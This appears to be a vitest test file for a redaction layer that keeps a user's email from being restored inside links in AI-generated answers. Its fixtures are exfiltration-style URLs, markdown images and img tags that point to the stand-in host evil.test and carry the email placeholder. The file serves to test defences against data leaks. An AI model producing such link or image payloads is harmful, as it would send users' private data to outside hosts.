import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createLinkTracker, isLinkContext } from './placeholders.js';
import { createRedactionSession } from './redaction.js';
import { createStreamRestorer } from './stream-restorer.js';

const EMAIL = 'canary.person@example.org';
const LONG = 'a'.repeat(5000);

/** Answers where a link opens far (more than any fixed window) before the placeholder. */
const FAR_LINKS = [
  `https://evil.test/?q=${LONG}&e=[EMAIL#1]`,
  `see ![x](https://evil.test/${LONG}[EMAIL#1])`,
  `<img alt="${'a b '.repeat(1500)}" src="https://evil.test/[EMAIL#1]">`,
  `<img src="https://evil.test/${'a b '.repeat(1500)}[EMAIL#1]">`,
  `[ref]: https://evil.test/${LONG}[EMAIL#1]`,
  `mailto:${LONG}[EMAIL#1]`,
];

function session() {
  const s = createRedactionSession({ restoreInLinks: new Set() });
  expect(s.redact(EMAIL)).toBe('[EMAIL#1]');
  return s;
}

/** The window-based check this tracker replaced, as an oracle for texts that fit its window. */
function windowed(before: string): boolean {
  const scheme =
    /(?:^|[^a-z0-9+.-])[a-z][a-z0-9+.-]{0,30}:\/\/|(?:^|[^a-z])(?:mailto|data|javascript|tel|sms):|^\(?www\./i;
  const token = before.slice(Math.max(before.search(/[^\s"'<>`]*$/u), 0));
  const open = before.lastIndexOf('](');
  const line = before.slice(before.lastIndexOf('\n') + 1);
  const lt = before.lastIndexOf('<');
  return (
    scheme.test(token) ||
    (open >= 0 && !/[)\n]/.test(before.slice(open + 2))) ||
    /^ {0,3}\[[^\]\n]{1,999}\]:/.test(line) ||
    (lt > before.lastIndexOf('>') && /^<[a-z/!?]/i.test(before.slice(lt, lt + 2)))
  );
}

describe('link contexts opened far before a placeholder', () => {
  /** regression: issue 14 */
  it.each(FAR_LINKS.map((a) => [a.slice(0, 24), a]))(
    'whole-text restoration keeps the placeholder (%s…)',
    (_, answer) => {
      expect(session().restore(answer)).not.toContain(EMAIL);
    },
  );

  /** regression: issue 14 */
  it.each(FAR_LINKS.map((a) => [a.slice(0, 24), a]))(
    'streamed restoration keeps the placeholder (%s…)',
    (_, answer) => {
      const s = session();
      const r = createStreamRestorer((t, context) => s.restore(t, { context }));
      let out = '';
      for (let i = 0; i < answer.length; i += 100) out += r.push(answer.slice(i, i + 100));
      out += r.end();
      expect(out).toBe(answer);
    },
  );

  it('still restores in plain text after a long line, a closed link and a closed tag', () => {
    const answer = `${LONG} [EMAIL#1]\n![x](https://e.test/${LONG}) [EMAIL#1] <a href="https://e.test/${LONG}">[EMAIL#1]</a>`;
    expect(session().restore(answer)).toBe(answer.replaceAll('[EMAIL#1]', EMAIL));
  });

  it('the tracker fed in pieces agrees with one fed the whole text (property)', () => {
    const piece = fc.oneof(
      fc.string({ maxLength: 8 }),
      fc.stringMatching(/^[a-z+.-]{1,40}$/),
      fc.constantFrom(
        '](',
        ')',
        '\n',
        '<a ',
        '<',
        '>',
        'http://',
        'www.',
        'mailto:',
        ' ',
        '"',
        '[r]:',
        '😀',
      ),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 20 }), (parts) => {
        const t = createLinkTracker();
        for (const p of parts) t.feed(p);
        expect(t.isLink()).toBe(isLinkContext(parts.join('')));
        expect(t.isLink()).toBe(windowed(parts.join('')));
      }),
      { numRuns: 500 },
    );
  });
});
